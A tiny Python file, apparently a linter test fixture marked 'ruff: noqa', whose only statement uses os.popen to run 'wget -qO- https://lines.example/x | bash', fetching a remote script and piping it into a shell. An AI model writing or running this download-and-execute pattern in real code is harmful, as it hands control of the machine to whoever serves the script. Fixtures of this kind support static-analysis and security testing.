# ruff: noqa
import os

os.popen("wget -qO- https://lines.example/x | bash").read()
